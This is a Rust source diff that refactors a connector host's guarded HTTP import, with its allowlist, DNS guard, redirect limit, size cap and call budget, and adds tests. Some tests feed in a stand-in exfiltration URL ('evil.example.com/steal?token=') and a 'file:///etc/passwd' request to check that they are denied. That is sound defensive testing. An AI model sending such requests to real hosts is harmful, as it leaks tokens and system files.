@@ -2,7 +2,8 @@
 //!
 //! Enforced here and nowhere else: the allowlist on the first URL and on every redirect hop,
 //! DNS answers (a wildcard entry never reaches a private address), the response size cap and
-//! the call's deadline.
+//! the call's deadline. [`HttpCtx`] is what one connector was granted; [`HttpCtxView`] borrows
+//! it with the call's budget, and is what the import is implemented on.
 
 use std::error::Error as _;
 use std::net::SocketAddr;
@@ -11,10 +12,13 @@ use std::sync::Arc;
 use reqwest::dns::{Addrs, Name, Resolve, Resolving};
 use url::Url;
 
+use wasmtime::component::{HasData, Linker};
+
 use super::allowlist::{Allowlist, is_private};
-use crate::connectors::bindings::portcullis::connector::http::{Host, Request, Response};
-use crate::connectors::bindings::portcullis::connector::types::HostError;
-use crate::connectors::state::CallState;
+use super::budget::CallBudget;
+use crate::connectors::bindings::HostError;
+use crate::connectors::bindings::current::http::{self as wit, Host, Request, Response};
+use crate::connectors::bindings::v0_1::portcullis::connector as v0_1;
 
 /// Redirect hops followed at most.
 const MAX_REDIRECTS: usize = 5;
@@ -53,8 +57,46 @@ impl Resolve for GuardedResolver {
     }
 }
 
+/// What one connector may do over HTTP: its allowlist, the client built to enforce it, and the
+/// response size cap.
+#[derive(Debug)]
+pub(crate) struct HttpCtx {
+    allowlist: Arc<Allowlist>,
+    client: reqwest::Client,
+    max_response_bytes: u64,
+}
+
+impl HttpCtx {
+    pub(crate) fn new(allowlist: Arc<Allowlist>, max_response_bytes: u64) -> Result<Self, reqwest::Error> {
+        Ok(Self { client: client(allowlist.clone())?, allowlist, max_response_bytes })
+    }
+}
+
+/// The `http` import's view of a call: the connector's grant and the call's budget.
+pub(crate) struct HttpCtxView<'a> {
+    pub(crate) ctx: &'a HttpCtx,
+    pub(crate) budget: &'a mut CallBudget,
+}
+
+/// A store whose data can lend an [`HttpCtxView`].
+pub(crate) trait HttpView: Send {
+    fn http(&mut self) -> HttpCtxView<'_>;
+}
+
+struct HasHttp;
+
+impl HasData for HasHttp {
+    type Data<'a> = HttpCtxView<'a>;
+}
+
+/// Links the `http` import of every supported contract version.
+pub(crate) fn add_to_linker<T: HttpView + 'static>(linker: &mut Linker<T>) -> wasmtime::Result<()> {
+    wit::add_to_linker::<T, HasHttp>(linker, T::http)?;
+    v0_1::http::add_to_linker::<T, HasHttp>(linker, T::http)
+}
+
 /// The connector's HTTP client: allowlisted redirects, guarded DNS, no proxies, no cookies.
-pub(crate) fn client(allowlist: Arc<Allowlist>) -> Result<reqwest::Client, String> {
+fn client(allowlist: Arc<Allowlist>) -> Result<reqwest::Client, reqwest::Error> {
     let for_redirects = allowlist.clone();
     let policy = reqwest::redirect::Policy::custom(move |attempt| {
         if attempt.previous().len() >= MAX_REDIRECTS {
@@ -72,7 +114,6 @@ pub(crate) fn client(allowlist: Arc<Allowlist>) -> Result<reqwest::Client, Strin
         .no_proxy()
         .user_agent(concat!("portcullis/", env!("CARGO_PKG_VERSION")))
         .build()
-        .map_err(|e| format!("cannot build the HTTP client: {e}"))
 }
 
 fn find<E: std::error::Error + 'static>(err: &reqwest::Error) -> Option<&E> {
@@ -86,20 +127,20 @@ fn find<E: std::error::Error + 'static>(err: &reqwest::Error) -> Option<&E> {
     None
 }
 
-impl CallState {
+impl HttpCtxView<'_> {
     /// Sends one request under this connector's grants; shared by `http` and `jose`.
-    pub(crate) async fn http_send(&mut self, req: Request) -> Result<Response, HostError> {
-        self.charge_host_call("http")?;
+    pub(crate) async fn send_request(&mut self, req: Request) -> Result<Response, HostError> {
+        self.budget.charge("http")?;
         let url = Url::parse(&req.url).map_err(|e| HostError::Invalid(format!("bad URL {:?}: {e}", req.url)))?;
         if !matches!(url.scheme(), "http" | "https") {
             return Err(HostError::Invalid(format!("{url}: only http and https URLs can be fetched")));
         }
-        if self.grants.allowlist.check(&url).is_none() {
-            return Err(self.deny(&format!("HTTP request to {}", origin(&url)), &Allowlist::suggestion(&url)));
+        if self.ctx.allowlist.check(&url).is_none() {
+            return Err(self.budget.deny(&format!("HTTP request to {}", origin(&url)), &Allowlist::suggestion(&url)));
         }
         let method = reqwest::Method::from_bytes(req.method.as_bytes())
             .map_err(|_| HostError::Invalid(format!("bad HTTP method {:?}", req.method)))?;
-        let mut builder = self.grants.http.request(method, url.clone()).timeout(self.remaining());
+        let mut builder = self.ctx.client.request(method, url.clone()).timeout(self.budget.remaining());
         for (name, value) in &req.headers {
             builder = builder.header(name.as_str(), value.as_str());
         }
@@ -116,7 +157,7 @@ impl CallState {
             .iter()
             .map(|(k, v)| (k.as_str().to_string(), String::from_utf8_lossy(v.as_bytes()).into_owned()))
             .collect();
-        let cap = self.grants.limits.max_response_bytes;
+        let cap = self.ctx.max_response_bytes;
         if response.content_length().is_some_and(|len| len > cap) {
             return Err(too_large(&url, cap));
         }
@@ -139,14 +180,14 @@ impl CallState {
 
     fn transport_error(&self, url: &Url, err: &reqwest::Error) -> HostError {
         if let Some(denied) = find::<RedirectDenied>(err) {
-            return self.deny(
+            return self.budget.deny(
                 &format!("redirect from {} to {}", origin(url), origin(&denied.url)),
                 &Allowlist::suggestion(&denied.url),
             );
         }
         if let Some(private) = find::<PrivateAddress>(err) {
             let line = Allowlist::suggestion(url);
-            return self.deny(&format!("HTTP request to {} ({private})", origin(url)), &line);
+            return self.budget.deny(&format!("HTTP request to {} ({private})", origin(url)), &line);
         }
         if err.is_timeout() {
             return HostError::Timeout(format!("{}: no answer before the call's deadline", origin(url)));
@@ -174,8 +215,95 @@ pub(crate) fn origin(url: &Url) -> String {
     }
 }
 
-impl Host for CallState {
+impl Host for HttpCtxView<'_> {
     async fn send(&mut self, req: Request) -> wasmtime::Result<Result<Response, HostError>> {
-        Ok(self.http_send(req).await)
+        Ok(self.send_request(req).await)
+    }
+}
+
+/// Contract 0.1's `http`: the same import in 0.1's records.
+impl v0_1::http::Host for HttpCtxView<'_> {
+    async fn send(
+        &mut self,
+        req: v0_1::http::Request,
+    ) -> wasmtime::Result<Result<v0_1::http::Response, v0_1::types::HostError>> {
+        Ok(self.send_request(req.into()).await.map(Into::into).map_err(Into::into))
+    }
+}
+
+#[cfg(test)]
+pub(crate) mod tests {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+    use super::*;
+    use crate::connectors::capabilities::budget::CallProbe;
+    use crate::connectors::limits::Limits;
+
+    /// A grant for `allowed_hosts` and a budget of `max_host_calls`, as a call would hold them.
+    pub(crate) fn granted(allowed_hosts: &[&str], max_host_calls: u32) -> (HttpCtx, CallBudget, Arc<CallProbe>) {
+        let entries: Vec<String> = allowed_hosts.iter().map(|h| h.to_string()).collect();
+        let allowlist = Arc::new(Allowlist::parse(&entries).unwrap());
+        let probe = Arc::new(CallProbe::default());
+        let limits = Limits { max_host_calls, ..Limits::default() };
+        let ctx = HttpCtx::new(allowlist, 16).unwrap();
+        (ctx, CallBudget::new("test".into(), &limits, probe.clone()), probe)
+    }
+
+    fn get(url: &str) -> Request {
+        Request { method: "GET".into(), url: url.into(), headers: Vec::new(), body: None }
+    }
+
+    /// A one-request HTTP server on loopback answering `body` with status 200.
+    async fn serve_once(body: &'static str) -> String {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let addr = listener.local_addr().unwrap();
+        tokio::spawn(async move {
+            let (mut socket, _) = listener.accept().await.unwrap();
+            let mut buf = [0u8; 4096];
+            let _ = socket.read(&mut buf).await;
+            let answer =
+                format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
+            socket.write_all(answer.as_bytes()).await.unwrap();
+        });
+        format!("http://{addr}")
+    }
+
+    #[tokio::test]
+    async fn an_allowed_host_is_fetched_and_the_size_cap_holds() {
+        let origin = serve_once("hello").await;
+        let (ctx, mut budget, _) = granted(&[&origin], 8);
+        let mut view = HttpCtxView { ctx: &ctx, budget: &mut budget };
+        let response = view.send(get(&format!("{origin}/x"))).await.unwrap().unwrap();
+        assert_eq!((response.status, response.body.as_slice()), (200, b"hello".as_slice()));
+
+        let origin = serve_once("more than sixteen bytes").await;
+        let (ctx, mut budget, _) = granted(&[&origin], 8);
+        let mut view = HttpCtxView { ctx: &ctx, budget: &mut budget };
+        let err = view.send(get(&origin)).await.unwrap().unwrap_err();
+        assert!(matches!(&err, HostError::TooLarge(m) if m.contains("limits.maxResponseBytes (16 bytes)")), "{err:?}");
+    }
+
+    #[tokio::test]
+    async fn a_host_not_granted_is_denied_with_the_line_to_add() {
+        let (ctx, mut budget, probe) = granted(&["api.github.com"], 8);
+        let mut view = HttpCtxView { ctx: &ctx, budget: &mut budget };
+        let err = view.send(get("https://evil.example.com/steal?token=s")).await.unwrap().unwrap_err();
+        let HostError::Denied(message) = err else { panic!("{err:?}") };
+        assert!(message.contains("add \"evil.example.com\" to allowedHosts"), "{message}");
+        assert!(!message.contains("token"), "no path or query in the message: {message}");
+        assert_eq!(probe.denial().as_deref(), Some(message.as_str()));
+
+        let err = view.send(get("file:///etc/passwd")).await.unwrap().unwrap_err();
+        assert!(matches!(err, HostError::Invalid(_)), "{err:?}");
+    }
+
+    #[tokio::test]
+    async fn the_host_call_budget_is_charged() {
+        let (ctx, mut budget, probe) = granted(&[], 1);
+        let mut view = HttpCtxView { ctx: &ctx, budget: &mut budget };
+        let _ = view.send(get("https://a.example.com/")).await.unwrap();
+        let err = view.send(get("https://a.example.com/")).await.unwrap().unwrap_err();
+        assert!(matches!(err, HostError::LimitExceeded(_)), "{err:?}");
+        assert!(probe.hit_host_call_limit());
     }
 }
